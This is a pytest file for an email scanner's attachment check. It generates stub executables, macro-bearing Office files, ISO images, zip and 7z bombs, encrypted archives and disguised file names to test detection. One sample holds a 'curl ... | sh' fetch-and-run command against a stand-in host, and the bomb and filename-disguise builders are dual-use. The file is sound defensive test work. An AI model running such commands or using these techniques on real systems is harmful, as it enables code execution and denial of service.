"""The attachments check: true types by magic bytes, names, archives opened recursively under
limits, zip bombs from metadata alone, encrypted archives, MIME limits. Every sample is made
here (executables, Office files, OLE2 compound files, ISO images, bombs) in a few milliseconds;
real-world samples come from the shared corpus when it is beside the checkout."""

from __future__ import annotations

import asyncio
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import time
import zipfile
from collections import Counter
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import py7zr
import pytest

from moat.model import Category, Finding, VerdictName
from moat.settings import AttachmentSettings, ScannerSettings, Settings
from services.scanner.checks import archives, build_checks, parse
from services.scanner.checks.attachments import AttachmentCheck
from services.scanner.checks.filetypes import Kind, sniff
from services.scanner.verdict import decide

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus"
MACRO_SAMPLES = CORPUS / "mime-fixtures/apache-spamassassin-tests/t/data/spam/olevbmacro"


# --- samples -----------------------------------------------------------------------------------


def pe() -> bytes:
    """A minimal PE: DOS header, e_lfanew at 0x3C, "PE\\0\\0" and a COFF header."""
    header = bytearray(0x80)
    header[:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(18)


ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(28)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(100) + b"\xff\xd9"
SCRIPT = b"#!/bin/sh\ncurl http://example.test/x | sh\n"


def iso() -> bytes:
    data = bytearray(0x8800)
    data[0x8000:0x8006] = b"\x01CD001"
    return bytes(data)


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def ooxml(macros: bool) -> bytes:
    files = {
        "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    if macros:
        files["word/vbaProject.bin"] = ole2([("VBA", 1, [])])
    return zipped(files)


def ole2(tree: list[Any], clsid: bytes = bytes(16)) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors): header, one FAT sector,
    one directory sector. ``tree``: [(name, type, children)], type 1 storage / 2 stream."""
    entries: list[tuple[str, int, int, int]] = [("Root Entry", 5, -1, -1)]  # name type child right

    def add(nodes: list[Any]) -> int:
        first = -1
        previous = -1
        for name, kind, children in nodes:
            index = len(entries)
            entries.append((name, kind, -1, -1))
            child = add(children)
            entries[index] = (name, kind, child, -1)
            if previous >= 0:
                p = entries[previous]
                entries[previous] = (p[0], p[1], p[2], index)
            else:
                first = index
            previous = index
        return first

    root_child = add(tree)
    entries[0] = ("Root Entry", 5, root_child, -1)
    assert len(entries) <= 4, "one directory sector holds four entries"
    nostream = 0xFFFFFFFF
    directory = b""
    for index, (name, kind, child, right) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack(
                "<III", nostream, nostream if right < 0 else right, nostream if child < 0 else child
            )
            + (clsid if index == 0 else bytes(16))
            + bytes(4 + 16)
            + struct.pack("<IQ", 0xFFFFFFFE, 0)
        )
    directory = directory.ljust(512, b"\x00")
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIII", 0, 1, 1, 0)
        + struct.pack("<IIIII", 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
        + b"\xff" * (108 * 4)
    )
    assert len(header) == 512
    return header + fat + directory


MSI_CLSID = struct.pack("<IHH", 0x000C1084, 0, 0) + bytes.fromhex("C000000000000046")


def tar_gz(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return gzip.compress(buffer.getvalue(), mtime=0)


def encrypt_flags(data: bytes) -> bytes:
    """Set the "encrypted" flag (bit 0) on every local and central record of a zip."""
    patched = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := patched.find(signature, start)) >= 0:
            patched[found + flag_at] |= 0x01
            start = found + 4
    return bytes(patched)


def sevenzipped(
    files: dict[str, bytes], password: str | None = None, header_encryption: bool = False
) -> bytes:
    """A 7z written by py7zr (LZMA2 at preset 1: fast enough for a 20 MiB bomb in 0.2 s)."""
    filters: list[dict[str, int]] = [{"id": py7zr.FILTER_LZMA2, "preset": 1}]
    if password is not None:
        filters.append({"id": py7zr.FILTER_CRYPTO_AES256_SHA256})
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(
        buffer, "w", filters=filters, password=password, header_encryption=header_encryption
    ) as archive:
        for name, content in files.items():
            archive.writestr(content, name)
    return buffer.getvalue()


def duplicate_central_record(data: bytes, old: bytes, new: bytes) -> bytes:
    """A second central record pointing at the first entry's local data (overlap)."""
    eocd = data.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack("<HII", data[eocd + 10 : eocd + 20])
    record = data[offset : offset + size]
    twin = record.replace(old, new)
    end = bytearray(data[eocd:])
    end[8:16] = struct.pack("<HHI", count + 1, count + 1, size * 2)
    return data[:offset] + record + twin + bytes(end)


# --- running the check -------------------------------------------------------------------------


def mail(*attachments: tuple[str, bytes], body: str = "see attached") -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"], message["To"], message["Subject"] = "a@b.test", "c@d.test", "files"
    message.set_content(body)
    for filename, content in attachments:
        message.add_attachment(
            content, maintype="application", subtype="octet-stream", filename=filename
        )
    return message.as_bytes()


def scan(raw: bytes, **overrides: Any) -> list[Finding]:
    policy = ScannerSettings(attachments=AttachmentSettings(**overrides))
    return asyncio.run(AttachmentCheck().check(parse("m1", raw, policy=policy)))


def symbols(findings: list[Finding]) -> set[str]:
    return {f.symbol for f in findings}


def only(findings: list[Finding], symbol: str) -> Finding:
    matching = [f for f in findings if f.symbol == symbol]
    assert len(matching) == 1, findings
    return matching[0]


# --- true types and names ----------------------------------------------------------------------


def test_sniff_classes() -> None:
    assert sniff(pe()).kind == Kind.EXECUTABLE
    assert sniff(ELF).kind == Kind.EXECUTABLE
    assert sniff(MACHO).kind == Kind.EXECUTABLE
    assert sniff(iso()).kind == Kind.DISK_IMAGE
    assert sniff(SCRIPT).kind == Kind.SCRIPT
    assert sniff(b"MZ but no PE header, just text that starts with MZ" * 3).kind == Kind.OTHER
    assert sniff(b"#!not a shebang").kind == Kind.OTHER
    assert sniff(PDF).kind == Kind.DOCUMENT
    java_class = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(20)  # class version 52
    assert sniff(java_class).kind == Kind.OTHER


def test_pe_renamed_to_pdf_is_an_executable_and_a_mismatch() -> None:
    findings = scan(mail(("invoice.pdf", pe())))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert all(f.category == Category.POLICY and f.check == "attachments" for f in findings)
    assert "invoice.pdf" in only(findings, "ATTACHMENT_TYPE_MISMATCH").detail
    assert "PE executable" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    assert decide(findings, ScannerSettings()).verdict == VerdictName.POLICY


def test_exe_by_name_and_content_but_no_mismatch() -> None:
    assert symbols(scan(mail(("setup.exe", pe())))) == {
        "ATTACHMENT_EXECUTABLE",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }


def test_blocked_extension_whatever_the_content_and_tricky_names() -> None:
    for name in ("update.js", "Invoice.PDF.vbs", "run.bat. ", "photo\u202egpj.hta"):
        findings = scan(mail((name, b"WScript.Echo 1\r\n")))
        assert symbols(findings) == {"ATTACHMENT_BLOCKED_EXTENSION"}, name


def test_elf_and_macho_are_executables() -> None:
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("tool", ELF))))
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("tool", MACHO))))


def test_docm_with_vba_project_and_a_renamed_one() -> None:
    docm = ooxml(macros=True)
    assert symbols(scan(mail(("report.docm", docm)))) == {
        "ATTACHMENT_MACRO",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }
    assert symbols(scan(mail(("report.docx", docm)))) == {
        "ATTACHMENT_MACRO",
        "ATTACHMENT_TYPE_MISMATCH",
    }
    assert scan(mail(("report.docx", ooxml(macros=False)))) == []


def test_ole2_with_vba_storage_msi_and_encrypted_office() -> None:
    word = ole2([("Macros", 1, [("VBA", 1, [])])])
    excel = ole2([("_VBA_PROJECT_CUR", 1, [("VBA", 1, [])])])
    assert symbols(scan(mail(("letter.doc", word)))) == {"ATTACHMENT_MACRO"}
    assert symbols(scan(mail(("sheet.xls", excel)))) == {"ATTACHMENT_MACRO"}
    assert scan(mail(("letter.doc", ole2([("WordDocument", 2, [])])))) == []
    msi = scan(mail(("readme.doc", ole2([], clsid=MSI_CLSID))))
    assert symbols(msi) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "MSI" in only(msi, "ATTACHMENT_EXECUTABLE").detail
    locked = ole2([("EncryptionInfo", 2, []), ("EncryptedPackage", 2, [])])
    assert symbols(scan(mail(("budget.xlsx", locked)))) == {"ARCHIVE_ENCRYPTED"}


def test_iso_image_by_magic_under_any_name() -> None:
    assert symbols(scan(mail(("photos.iso", iso())))) == {
        "ATTACHMENT_DISK_IMAGE",
        "ATTACHMENT_BLOCKED_EXTENSION",
    }
    assert symbols(scan(mail(("scan.pdf", iso())))) == {
        "ATTACHMENT_DISK_IMAGE",
        "ATTACHMENT_TYPE_MISMATCH",
    }


def test_ordinary_attachments_pass() -> None:
    raw = mail(
        ("report.pdf", PDF),
        ("chart.png", PNG),
        ("photo.jpg", JPEG),
        ("notes.txt", b"MZ is how the notes start, and nothing else.\n" * 5),
        ("data.csv", b"a,b\n1,2\n"),
        ("report.docx", ooxml(macros=False)),
        ("bundle.zip", zipped({"a.pdf": PDF, "b/c.png": PNG, "d.txt": b"hello"})),
        ("logs.tar.gz", tar_gz({"app.log": b"started\n" * 100})),
        body="#!/bin/sh at the start of a message is prose, not a program\n",
    )
    assert scan(raw) == []


def test_a_large_very_compressible_document_is_no_bomb() -> None:
    """Only what is opened counts: a document's own XML is never inflated, so its ratio is
    none of the bomb rules' business (its embedded files' is)."""
    sheet = b"<row><c t='s'><v>0</v></c></row>" * 200_000  # 6 MiB that deflate to ~30 KiB
    files = {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet}
    assert scan(mail(("big.xlsx", zipped(files)))) == []
    files["xl/embeddings/oleObject1.bin"] = sheet
    assert symbols(scan(mail(("big.xlsx", zipped(files))))) == {"ARCHIVE_BOMB"}


# --- archives ----------------------------------------------------------------------------------


def test_shell_script_in_a_tar_gz() -> None:
    findings = scan(mail(("tools.tar.gz", tar_gz({"bin/run.sh": SCRIPT}))))
    assert symbols(findings) == {"ATTACHMENT_SCRIPT"}
    assert only(findings, "ATTACHMENT_SCRIPT").detail.startswith(
        "tools.tar.gz/tools.tar/bin/run.sh"
    )


def test_executable_deep_in_nested_zips_and_depth_limit() -> None:
    inner = zipped({"payload.pdf": pe()})
    for level in range(3):
        inner = zipped({f"level{level}.zip": inner})
    findings = scan(mail(("archive.zip", inner)))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "level0.zip/payload.pdf" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    limited = scan(mail(("archive.zip", inner)), max_depth=3)
    assert symbols(limited) == {"ARCHIVE_LIMIT"}
    assert "deeper than 3" in only(limited, "ARCHIVE_LIMIT").detail


def test_zip_bomb_by_declared_ratio_without_inflating() -> None:
    bomb = zipped({"zeros.bin": bytes(20 * 1024 * 1024)})  # 20 MiB of zeros in ~20 KiB
    assert len(bomb) < 100_000
    started = time.perf_counter()
    findings = scan(mail(("bomb.zip", bomb)))
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "ratio" in only(findings, "ARCHIVE_BOMB").detail
    assert time.perf_counter() - started < 1.0


def test_zip_bomb_by_entry_count_and_by_overlap() -> None:
    many = zipped({f"f{i}.txt": b"x" for i in range(11)})
    assert symbols(scan(mail(("many.zip", many)), max_entries=10)) == {"ARCHIVE_BOMB"}
    assert scan(mail(("many.zip", many)), max_entries=11) == []
    overlapping = duplicate_central_record(
        zipped({"a.txt": b"hello" * 100}, zipfile.ZIP_STORED), b"a.txt", b"b.txt"
    )
    findings = scan(mail(("overlap.zip", overlapping)))
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "overlap" in only(findings, "ARCHIVE_BOMB").detail


def test_declared_sizes_are_not_trusted_reads_are_capped() -> None:
    """A gzip whose trailer lies (declares 10 bytes) cannot push past the byte budget."""
    payload = bytearray(gzip.compress(bytes(3 * 1024 * 1024), mtime=0))
    payload[-4:] = struct.pack("<I", 10)
    findings = scan(mail(("data.gz", bytes(payload))), max_total_uncompressed=1024 * 1024)
    assert symbols(findings) <= {"ARCHIVE_LIMIT", "ARCHIVE_BOMB"} and findings
    # Within the budget and below the ratio rule's floor, the same kind of file passes.
    assert (
        scan(mail(("data.gz", gzip.compress(b"a" * 1000))), max_total_uncompressed=1024 * 1024)
        == []
    )


def test_bzip2_and_xz_bombs_stop_early_and_their_payloads_are_seen() -> None:
    zeros = bytes(4 * 1024 * 1024)
    for name, packed in (("z.bz2", bz2.compress(zeros)), ("z.xz", lzma.compress(zeros))):
        started = time.perf_counter()
        findings = scan(mail((name, packed)))
        assert symbols(findings) == {"ARCHIVE_BOMB"}, name
        assert time.perf_counter() - started < 1.0
    assert symbols(scan(mail(("tool.bz2", bz2.compress(pe()))))) == {"ATTACHMENT_EXECUTABLE"}
    assert symbols(scan(mail(("tool.xz", lzma.compress(pe()))))) == {"ATTACHMENT_EXECUTABLE"}
    assert symbols(scan(mail(("cut.xz", lzma.compress(pe())[:24])))) == {"ARCHIVE_CORRUPT"}


def test_encrypted_zip_by_policy() -> None:
    locked = encrypt_flags(zipped({"invoice.pdf": PDF, "payload.exe": b"?"}, zipfile.ZIP_STORED))
    findings = scan(mail(("secret.zip", locked)))
    assert symbols(findings) == {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"}
    assert {f.category for f in findings} == {Category.POLICY}
    allowed = scan(
        mail(("secret.zip", encrypt_flags(zipped({"a.pdf": PDF})))), encrypted_archive_action="info"
    )
    assert [(f.symbol, f.category, f.score) for f in allowed] == [
        ("ARCHIVE_ENCRYPTED", Category.INFO, 0.0)
    ]


def test_opaque_and_corrupt_archives() -> None:
    rar = b"Rar!\x1a\x07\x01\x00" + bytes(40)
    assert [(f.symbol, f.category) for f in scan(mail(("a.rar", rar)))] == [
        ("ARCHIVE_OPAQUE", Category.INFO)
    ]
    assert {f.category for f in scan(mail(("a.rar", rar)), opaque_archive_action="policy")} == {
        Category.POLICY
    }
    whole = zipped({"a.txt": b"hello" * 1000})
    truncated = whole[: len(whole) // 2]
    assert symbols(scan(mail(("cut.zip", truncated)))) == {"ARCHIVE_CORRUPT"}


# --- 7z ----------------------------------------------------------------------------------------


def test_executable_in_a_7z_is_blocked_and_a_clean_7z_passes() -> None:
    findings = scan(mail(("tools.7z", sevenzipped({"docs/readme.txt": b"hi", "bin/tool": pe()}))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE"}
    assert only(findings, "ATTACHMENT_EXECUTABLE").detail.startswith("tools.7z/bin/tool: PE")
    script = scan(mail(("s.7z", sevenzipped({"run": SCRIPT, "empty.txt": b""}))))
    assert symbols(script) == {"ATTACHMENT_SCRIPT"}
    named = scan(mail(("n.7z", sevenzipped({"setup.exe": b"not really"}))))
    assert symbols(named) == {"ATTACHMENT_BLOCKED_EXTENSION"}
    clean = sevenzipped({"a.pdf": PDF, "b/c.png": PNG, "d.txt": b"hello", "e.txt": b""})
    assert scan(mail(("bundle.7z", clean))) == []  # opened: not even ARCHIVE_OPAQUE
    # A 7z behind an inert name is a disguise, as a zip is.
    assert symbols(scan(mail(("bundle.pdf", clean)))) == {"ATTACHMENT_TYPE_MISMATCH"}


def test_zip_nested_in_a_7z_and_7z_in_a_zip() -> None:
    inner = zipped({"payload.pdf": pe()})
    findings = scan(mail(("outer.7z", sevenzipped({"inner.zip": inner}))))
    assert symbols(findings) == {"ATTACHMENT_EXECUTABLE", "ATTACHMENT_TYPE_MISMATCH"}
    assert "outer.7z/inner.zip/payload.pdf" in only(findings, "ATTACHMENT_EXECUTABLE").detail
    wrapped = zipped({"x.7z": sevenzipped({"inner.zip": inner})})
    assert "ATTACHMENT_EXECUTABLE" in symbols(scan(mail(("w.zip", wrapped))))
    assert symbols(scan(mail(("w.zip", wrapped)), max_depth=2)) == {"ARCHIVE_LIMIT"}


def test_7z_bomb_from_metadata_without_extracting(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = sevenzipped({"zeros.bin": bytes(20 * 1024 * 1024)})  # 20 MiB of zeros in ~3 KiB
    assert len(bomb) < 100_000

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("a bomb must be recognised before anything is extracted")

    monkeypatch.setattr(py7zr.SevenZipFile, "extractall", refuse)
    started = time.perf_counter()
    findings = scan(mail(("bomb.7z", bomb)))
    assert time.perf_counter() - started < 1.0
    assert symbols(findings) == {"ARCHIVE_BOMB"}
    assert "ratio" in only(findings, "ARCHIVE_BOMB").detail
    # Solid: each file is small and compressible, together they come out of one stream.
    solid = sevenzipped({f"z{i}.bin": bytes(512 * 1024) for i in range(4)})
    assert symbols(scan(mail(("solid.7z", solid)))) == {"ARCHIVE_BOMB"}
    many = sevenzipped({f"f{i}.txt": b"x" for i in range(11)})
    assert symbols(scan(mail(("many.7z", many)), max_entries=10)) == {"ARCHIVE_BOMB"}


def test_7z_limits_from_metadata_and_capped_extraction() -> None:
    data = sevenzipped({"a.bin": random.Random(7).randbytes(600 * 1024)})  # incompressible
    limited = scan(mail(("big.7z", data)), max_total_uncompressed=512 * 1024)
    assert symbols(limited) == {"ARCHIVE_LIMIT"}
    assert "declares" in only(limited, "ARCHIVE_LIMIT").detail
    assert scan(mail(("big.7z", data)), max_total_uncompressed=2 * 1024 * 1024) == []
    # Whatever the header said, what is written stops one byte past the budget.
    budget = archives.Budget(archives.Limits(10, 100, 1000.0, 1 << 30))
    factory = archives._CappedFactory(budget.cap())
    writer = factory.create("x")
    writer.write(b"a" * 101)
    with pytest.raises(archives._Overrun):
        writer.write(b"a")


def test_encrypted_7z_content_and_header() -> None:
    locked = sevenzipped({"invoice.pdf": PDF, "payload.exe": b"?"}, password="secret")
    findings = scan(mail(("secret.7z", locked)))
    assert symbols(findings) == {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"}
    assert {f.category for f in findings} == {Category.POLICY}
    assert "secret.7z/payload.exe" in only(findings, "ATTACHMENT_BLOCKED_EXTENSION").detail
    hidden = sevenzipped({"payload.exe": pe()}, password="secret", header_encryption=True)
    findings = scan(mail(("hidden.7z", hidden)))
    assert [(f.symbol, f.category) for f in findings] == [("ARCHIVE_ENCRYPTED", Category.POLICY)]
    assert "names hidden" in findings[0].detail
    allowed = scan(mail(("hidden.7z", hidden)), encrypted_archive_action="info")
    assert [(f.symbol, f.category, f.score) for f in allowed] == [
        ("ARCHIVE_ENCRYPTED", Category.INFO, 0.0)
    ]


def test_corrupt_7z() -> None:
    whole = sevenzipped({"a.txt": bytes(range(256)) * 64})
    for broken in (
        whole[: len(whole) // 2],  # truncated: the header is gone
        whole[:40] + bytes(200) + whole[240:],  # packed data damaged: CRC or decoder error
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40),  # a signature and nothing else
    ):
        findings = scan(mail(("cut.7z", broken)))
        assert [(f.symbol, f.category) for f in findings] == [
            ("ARCHIVE_CORRUPT", Category.POLICY)
        ], findings
    allowed = scan(mail(("cut.7z", whole[:100])), corrupt_archive_action="info")
    assert [(f.symbol, f.category) for f in allowed] == [("ARCHIVE_CORRUPT", Category.INFO)]


# --- MIME limits -------------------------------------------------------------------------------


def nested_multipart(depth: int) -> bytes:
    raw = b"Content-Type: text/plain\r\n\r\nhello\r\n"
    for level in range(depth):
        boundary = f"b{level}".encode()
        raw = (
            b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n--' + boundary
            + b"\r\n" + raw + b"\r\n--" + boundary + b"--\r\n"
        )  # fmt: skip
    return b"From: a@b.test\r\nMIME-Version: 1.0\r\n" + raw


def test_mime_depth_parts_and_header_limits() -> None:
    assert scan(nested_multipart(10)) == []
    deep = scan(nested_multipart(30))
    assert [(f.symbol, f.category) for f in deep] == [("MIME_UNSCANNABLE", Category.POLICY)]
    assert "deeper than 20" in deep[0].detail
    many = mail(*((f"n{i}.txt", b"x") for i in range(12)))
    assert symbols(scan(many, max_mime_parts=10)) == {"MIME_UNSCANNABLE"}
    assert scan(many, max_mime_parts=20) == []
    big_headers = b"".join(b"X-Filler-%d: %s\r\n" % (i, b"y" * 900) for i in range(700))
    raw = b"From: a@b.test\r\n" + big_headers + b"\r\nbody\r\n"
    assert symbols(scan(raw)) == {"MIME_UNSCANNABLE"}


def test_missing_boundary_is_an_info_defect() -> None:
    raw = (
        b'From: a@b.test\r\nContent-Type: multipart/mixed; boundary="nowhere"\r\n\r\n'
        b"--elsewhere\r\nContent-Type: text/plain\r\n\r\nhidden\r\n"
    )
    findings = scan(raw)
    assert [(f.symbol, f.category) for f in findings] == [("MIME_DEFECT", Category.INFO)]
    assert "StartBoundaryNotFoundDefect" in findings[0].detail


# --- policy per domain, registration -----------------------------------------------------------


def test_domain_policy_overrides_and_registration() -> None:
    settings = Settings(
        domains={
            "lab.test": {
                "relay": "127.0.0.1:25",
                "scanner": {"attachments": {"blocked_types": ["macro"], "blocked_extensions": []}},
            }
        }
    )
    raw = mail(("setup.exe", pe()))
    relaxed = parse("m1", raw, policy=settings.scanner_policy("lab.test"), domain="lab.test")
    assert asyncio.run(AttachmentCheck().check(relaxed)) == []
    strict = parse("m1", raw, policy=settings.scanner_policy("other.test"))
    assert "ATTACHMENT_EXECUTABLE" in symbols(asyncio.run(AttachmentCheck().check(strict)))
    assert any(isinstance(check, AttachmentCheck) for check in build_checks(settings))


# --- the shared corpus -------------------------------------------------------------------------


@pytest.mark.skipif(
    not MACRO_SAMPLES.is_dir(), reason="the shared corpus is not beside the checkout"
)
def test_real_office_macro_samples() -> None:
    expected = {
        "macro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_BLOCKED_EXTENSION"},
        "malicemacro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_BLOCKED_EXTENSION"},
        "renamedmacro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_TYPE_MISMATCH"},
        "encrypted.eml": {"ARCHIVE_ENCRYPTED"},
        "zippwmacro.eml": {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"},
        "nomacro.eml": set(),
        "goodcsv.eml": set(),
        "target_uri.eml": set(),
    }
    for name, wanted in expected.items():
        assert symbols(scan((MACRO_SAMPLES / name).read_bytes())) == wanted, name


def corpus(step: int) -> Iterator[tuple[str, bytes]]:
    """Every ``step``-th file of mime-fixtures and spamassassin, in a fixed order."""
    for folder in ("mime-fixtures", "spamassassin"):
        paths = sorted(p for p in (CORPUS / folder).rglob("*") if p.is_file())
        for path in paths[::step]:
            yield str(path.relative_to(CORPUS)), path.read_bytes()


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the shared corpus is not beside the checkout")
def test_corpus_never_raises_and_ham_is_not_blocked() -> None:
    counts: Counter[str] = Counter()
    blocked_ham = []
    for name, raw in corpus(step=10):
        findings = scan(raw)
        counts.update(f.symbol for f in findings)
        if "/ham/" in name and any(f.category == Category.POLICY for f in findings):
            blocked_ham.append(name)
    assert sum(counts.values()) > 0  # the sample holds defects and macro samples
    # Of ~4,150 ham messages three attach a shell script or an internet shortcut; a
    # tenth of them may hold one, never more.
    assert len(blocked_ham) <= 1, blocked_ham
    print(f"attachments corpus sample: {sorted(counts.items())}")
